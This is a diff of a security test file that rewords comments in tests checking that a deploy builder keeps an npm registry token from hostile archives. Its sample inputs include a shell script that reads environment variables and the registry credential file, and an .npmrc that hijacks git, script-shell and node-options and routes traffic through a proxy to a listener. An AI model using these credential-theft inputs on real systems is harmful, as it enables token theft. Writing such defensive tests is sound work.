@@ -1,5 +1,5 @@
-// Archives that try to get at the machine's registry login: by each setting of a package client that names a program, and by those that
-// name another place to send it to. The registry is a real one on the loopback, the clients are real, the token is a canary.
+// Archives that try to steal the machine's registry login: with each setting of a package client that names a program, and with those that
+// name another place to send the login to. The registry is a real one on the loopback, the clients are real, the token is a canary.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
@@ -34,7 +34,7 @@ const thing = {
 };
 const registry = await tokenRegistry(TOKEN, { '@own/thing': thing });
 const stranger = await listener();
-// As the operator has it: from here on the machine's clients, which the builder reads, know a registry and a login.
+// From here on the machine's clients, whose settings the builder reads, have the operator's registry and login.
 const settings = join(home, 'npmrc');
 writeFileSync(settings, `registry=${registry.address}\n${registry.address.replace('http:', '')}:_authToken=${TOKEN}\n`);
 for (const name of Object.keys(process.env)) if (/^npm_config_|_proxy$/i.test(name)) delete process.env[name];
@@ -45,7 +45,7 @@ after(() => {
   rmSync(home, { recursive: true, force: true });
 });
 
-/** Keeps what a program sees of its step where a hostile one would: in the package cache, and at the stranger's. */
+/** Saves what a program sees of its step where a hostile one would: in the package cache and on the stranger's server. */
 const steal = `#!/bin/sh
 { env; cat /opt/paddock/registry/npmrc; } >/cache/stolen-$$ 2>/dev/null
 exit 1
@@ -77,9 +77,9 @@ async function deploy(files: Record<string, string>): Promise<Outcome> {
   return { lines: lines.join('\n'), failure: isError ? result.message : '', app: isError ? '' : result.app_dir };
 }
 
-/** Neither on disk, where archive and packages could write, nor with the stranger, nor in the log. */
+/** The token is not on disk where archive and packages could write, not on the stranger's server, and not in the log. */
 function tokenIsKept({ lines, failure }: Outcome): void {
-  // The folder of the tools may be a link, which is only followed when it is named.
+  // The folder of the tools may be a link, which grep only follows if it is an argument.
   const found = spawnSync('grep', ['-rl', '--', TOKEN, dataDir, join(dataDir, 'tools/')], { encoding: 'utf8' });
   assert.equal(found.stdout, '');
   assert.ok(!stranger.heard().includes(TOKEN), 'the stranger has it');
@@ -88,7 +88,7 @@ function tokenIsKept({ lines, failure }: Outcome): void {
 
 const manifest = (more: object = {}) =>
   JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'true' }, dependencies: { '@own/thing': '1.0.0' }, ...more });
-/** Port 1 answers nobody, and what is tried is whether somebody else is asked. */
+/** Nothing listens on port 1. The test checks whether another server gets the request. */
 const gitDependency = { dependencies: { '@own/thing': '1.0.0', other: 'git+http://127.0.0.1:1/other.git' } };
 const hosts = registry.address.replace('http:', '');
 
@@ -96,7 +96,7 @@ for (const manager of managers) {
   const lock: Record<string, string> = { pnpm: 'pnpm-lock.yaml', yarn: 'yarn.lock', bun: 'bun.lock' };
   const pinned: Record<string, string> = { pnpm: 'pnpm@10.34.8', yarn: 'yarn@1.22.22', 'yarn-berry': 'yarn@4.18.1', bun: 'bun@1.4.5' };
   const asks = (more: object = {}) => manifest({ ...more, ...(pinned[manager] === undefined ? {} : { packageManager: pinned[manager] }) });
-  // yarn 2 and later does not read npm's login, so that a private package is out of its reach.
+  // yarn 2 and later does not read npm's login, so it cannot install a private package.
   const reaches = manager !== 'yarn-berry';
 
   test(`${manager} fetches a private package with the login, and runs its install script without`, { skip: !reaches }, async () => {
@@ -191,7 +191,7 @@ test('the repository of a git dependency runs no program beside the login either
         version: '1.0.0',
         scripts: { prepare: 'sh ./steal.sh', preinstall: 'sh ./steal.sh', postinstall: 'sh ./steal.sh' },
       },
-      // npm installs these in the repository, to prepare it.
+      // npm installs these in the repository to prepare it.
       ...{ devDependencies: { '@own/thing': '1.0.0', nested: 'git+http://127.0.0.1:1/nested.git' } },
     }),
     '.npmrc': `git=./steal.sh\nscript-shell=./steal.sh\nnode-options=--require ./steal.cjs\nignore-scripts=false\nhttps-proxy=${stranger.address}\nproxy=${stranger.address}\n`,
